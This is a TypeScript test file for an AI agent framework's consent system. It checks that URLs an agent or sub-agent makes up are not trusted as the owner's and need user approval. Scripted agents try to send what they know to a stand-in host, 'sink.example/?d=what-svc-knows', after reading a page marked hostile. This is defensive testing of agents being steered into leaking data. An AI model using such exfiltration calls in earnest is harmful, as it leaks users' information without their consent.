import { EVERYONE } from '../../../../../src/core/trust/people/model.ts';
import { expect } from '@jest/globals';
import type { JsonObject } from '../../../../../src/core/kernel/json.ts';
import { promptSection } from '../../../../../src/core/outside/api-store/prompt-section.ts';
import { untrusted } from '../../../../../src/core/trust/untrusted/untrusted.ts';
import type { Tool } from '../../../../../src/core/execution/runs/port.ts';
import { text, toolCalls } from '../../../../doubles/scripted-model.ts';
import { aProfile } from '../../../../harness/apis.ts';
import { aTool } from '../../../../harness/core.ts';
import { verifies } from '../../../../spec/verifies.ts';
import { agentsIn, an, resultsIn, spawn, stage } from './stage.ts';
import { sentence } from '../../../../doubles/sentences.ts';

/** Reads an address as `read_page` does, and records it. */
const pages = (read: string[]): Tool => ({
  ...aTool('read_page', async ({ url }, { nonce }) => {
    read.push(String(url));
    return { output: untrusted({ text: 'hostile', source: 'a page', nonce }), success: true };
  }),
  bringsAddresses: true,
  consent: ({ url }: JsonObject) => ({
    class: 'read',
    to: new URL(String(url)).host,
    says: sentence(`The agent wants to read ${String(url)}`),
    asks: { url: String(url), carries: 'little' },
  }),
});

const reads = (url: string) => toolCalls({ name: 'read_page', input: { url } });

verifies(
  ['agents.material', 'agents.questions'],
  "an address made up by svc does not count as the owner's, even in the task of a sub-agent",
  async () => {
    const read: string[] = [];
    const sink = 'https://sink.example/?d=what-svc-knows';
    const core = stage(
      {
        svc: [
          [reads('https://owner.example/page')],
          [spawn(an('Ann', { task: `Play Ann. Read ${sink}`, context: `It is ${sink}` }), an('Ben'))],
          [text('ok')],
        ],
        Ann: [[reads(sink)], [text('no')]],
        Ben: [[reads('https://owner.example/page')], [text('yes')]],
      },
      { tools: [pages(read)] },
    );
    const session = await core.newSession();
    const runId = await core.start(session, 'look at https://owner.example/page');
    await core.clock.advance(5_000);
    // Ben reads an address named by the owner; Ann needs consent.
    expect(read).toEqual(['https://owner.example/page', 'https://owner.example/page']);
    const pending = await core.prompts.pending(EVERYONE, session.sessionId);
    expect(pending?.prompt).toMatchObject({ promptType: 'consent', runId });
    expect(pending?.prompt.questions[0]?.question).toContain(sink);
    expect(pending?.prompt.questions[0]?.question).toMatch(/^The sub-agent "\w+" asks\. /u);
    await core.prompts.reply(EVERYONE, session.sessionId, {
      promptId: pending?.prompt.promptId ?? null,
      answer: 'No',
    });
    const events = await core.eventsOf(runId);
    expect(read).toHaveLength(2);
    const refused = agentsIn(events).find((event) => event.event === 'tool_result' && event.name === 'Ann');
    expect(refused).toMatchObject({ success: false, output: expect.stringContaining('said no') });
  },
);

verifies(
  ['agents.questions', 'agents.time'],
  'concurrent sub-agents that need consent are asked for one after the other, however long it takes',
  async () => {
    const HOUR = 60 * 60 * 1000;
    const sent: string[] = [];
    const sending: Tool = {
      ...aTool('http_request', async ({ to }) => {
        sent.push(String(to));
        return { output: 'sent', success: true };
      }),
      consent: ({ to }: JsonObject) => ({
        class: 'send_outside',
        to: String(to),
        says: sentence(`Send to ${String(to)}.`),
      }),
    };
    const sends = (to: string) => toolCalls({ name: 'http_request', input: { to } });
    const core = stage(
      {
        svc: [[spawn(an('Ann'), an('Ben'))], [text('ok')]],
        Ann: [[sends('a.example')], [text('a')]],
        Ben: [[sends('b.example')], [text('b')]],
      },
      { tools: [sending] },
    );
    const session = await core.newSession();
    const runId = await core.start(session);
    for (let nth = 1; nth <= 2; nth++) {
      await core.clock.advance(HOUR);
      await core.answer(session, 'yes');
      await core.clock.advance(10);
      expect(sent).toHaveLength(nth);
    }
    const events = await core.eventsOf(runId);
    expect(resultsIn(events)).toMatchObject([{ name: 'spawn_agent', success: true }]);
    expect(sent.toSorted()).toEqual(['a.example', 'b.example']);
    const run = await core.history.runs.get(EVERYONE, runId);
    expect(run?.waitMs).toBeGreaterThanOrEqual(2 * HOUR);
    expect(run?.durationMs).toBeLessThan(60_000);
  },
);

verifies(
  ['agents.material', 'security.consent.provenance'],
  'an API profile registered by a run may be untrusted text for a sub-agent',
  async () => {
    const read: string[] = [];
    let section = '';
    const registering = aTool('api_setup', async () => {
      section = promptSection([aProfile()], '0123456789abcdef');
      return { output: 'registered', success: true };
    });
    const core = stage(
      {
        svc: [[toolCalls({ name: 'api_setup', input: {} })], [spawn(an('Ann'))], [text('ok')]],
        Ann: [
          [toolCalls({ name: 'http_request', input: { url: 'https://sink.example/?d=known' } })],
          [text('no')],
        ],
      },
      { tools: [registering, { ...pages(read), name: 'http_request' }], registeredApis: () => section },
    );
    const session = await core.newSession();
    await core.start(session);
    await core.clock.advance(5_000);
    expect(read).toEqual([]);
    const pending = await core.prompts.pending(EVERYONE, session.sessionId);
    expect(pending?.prompt.questions[0]?.question).toContain('wrote this itself');
  },
);
